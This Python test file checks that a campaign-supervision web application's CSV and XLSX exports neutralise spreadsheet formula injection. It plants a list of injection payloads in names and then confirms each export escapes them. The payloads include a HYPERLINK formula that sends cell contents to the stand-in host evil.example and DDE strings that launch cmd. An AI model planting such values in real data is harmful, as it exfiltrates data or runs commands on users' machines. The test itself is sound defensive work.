"""Every CSV and XLSX export keeps a formula-like value inert: an enterprise (or matter, official, expert,
checklist item) whose name starts with = + - @ TAB CR or a full-width ＝ ＋ － ＠ comes out as text."""
import csv
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select, update

from demo.simulate import simulate
from extensions import db
from models import Campaign, ChecklistItem, Draw, Enterprise, Expert, Matter, User
from services.exports import FORMULA_STARTS
from services.workflow import clock
from tests.e2e.journey import user_client

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://evil.example\")",
            "＋1+1", "－1+1", "＠SUM(1,1)")


def _poison(app) -> int:
    """Rename what the exports show to formula-like text, then run one whole campaign through the services."""
    with app.app_context():
        for model, column in ((Enterprise, Enterprise.name), (Expert, Expert.name), (Matter, Matter.name),
                              (ChecklistItem, ChecklistItem.text)):
            ids = db.session.scalars(select(model.id)).all()
            for n, row_id in enumerate(ids):
                db.session.execute(update(model).where(model.id == row_id)
                                   .values({column.key: f"{PAYLOADS[n % len(PAYLOADS)]} #{row_id}"}))
        officials = db.session.scalars(select(User).where(User.cert_no.is_not(None))).all()
        for n, person in enumerate(officials):
            person.display_name = PAYLOADS[n % len(PAYLOADS)]
        db.session.commit()
        campaign = simulate(3, say=lambda _text: None)
        return campaign.id


def _cells_of_xlsx(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_inert_xlsx(path: str, content: bytes, expect_payload: bool = True) -> None:
    cells = _cells_of_xlsx(content)
    assert cells, path
    live = [(c.coordinate, c.value) for c in cells if c.data_type == "f"
            or (isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))]
    assert not live, f"{path}: formula cells {live[:5]}"
    if expect_payload:
        assert any(isinstance(c.value, str) and c.value.startswith("'") and c.value[1:].startswith(FORMULA_STARTS)
                   for c in cells), f"{path}: no poisoned value reached this export"


def test_every_export_route_writes_inert_cells(app):
    campaign_id = _poison(app)
    with app.app_context():
        draw_id = db.session.scalar(select(Draw.id).where(Draw.campaign_id == campaign_id))
        industry_id = db.session.get(Campaign, campaign_id).plan_entry.industry_id
    today = date.today()
    admin, supervisor, anonymous = user_client(app, "admin"), user_client(app, "supervisor"), app.test_client()
    lead = user_client(app, "scjg_01")
    walked = {
        "/directory/enterprises.xlsx": (admin, True),
        "/directory/officials.xlsx": (admin, True),
        "/directory/experts.xlsx": (admin, True),
        "/directory/matters.xlsx": (admin, True),
        "/directory/industries/<int:industry_id>/checklist.xlsx": (admin, True),
        "/publication/<int:campaign_id>/export.xlsx": (supervisor, True),
        "/publication/<int:campaign_id>/export.csv": (supervisor, True),
        "/reports/campaigns/<int:campaign_id>/diagnosis.xlsx": (supervisor, True),
        "/reports/review.xlsx": (supervisor, False),  # figures per campaign and department, no free text of ours
        "/verify/draw/<int:draw_id>.xlsx": (anonymous, False),  # no names, classes or people since the v3 rules
        "/draws/<int:draw_id>/list.xlsx": (supervisor, True),
        "/public/matters.xlsx": (anonymous, True),
        "/public/plan/<int:year>.xlsx": (anonymous, True),
        "/applications/credit-repairs.xlsx": (lead, False),  # no repairs applied for in this campaign: headers only
    }
    exports = {r.rule for r in app.url_map.iter_rules() if r.rule.endswith((".xlsx", ".csv"))}
    assert exports == set(walked), f"export routes not walked by this test: {exports - set(walked)}"
    for rule, (client, expect_payload) in walked.items():
        url = (rule.replace("<int:industry_id>", str(industry_id)).replace("<int:campaign_id>", str(campaign_id))
               .replace("<int:draw_id>", str(draw_id)).replace("<int:year>", str(today.year)))
        if rule == "/reports/review.xlsx":
            url += f"?start={today.year}-01-01&end={today.isoformat()}"
        response = client.get(url)
        assert response.status_code == 200, (url, response.get_data(as_text=True)[:300])
        assert "attachment" in response.headers["Content-Disposition"]
        if rule.endswith(".csv"):
            text = response.get_data(as_text=True).lstrip("\ufeff")
            fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
            assert not [f for f in fields if f.startswith(FORMULA_STARTS)], url
            assert any(f.startswith("'") and f[1:].startswith(FORMULA_STARTS) for f in fields), url
        else:
            _assert_inert_xlsx(url, response.data, expect_payload)
    _walk_credit_records(app, supervisor)


def _walk_credit_records(app, supervisor) -> None:
    """信用归集 (one rule for .csv, .xlsx and .json): today's records name the poisoned enterprises, inert."""
    with app.app_context():
        today = clock.today().isoformat()
    for fmt in ("csv", "xlsx"):
        response = supervisor.get(f"/reports/credit.{fmt}?start={today}&end={today}")
        assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
        if fmt == "csv":
            fields = [f for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))) for f in row]
            assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
            assert any(f.startswith("'") and f[1:].startswith(FORMULA_STARTS) for f in fields)
        else:
            _assert_inert_xlsx(f"/reports/credit.{fmt}", response.data)
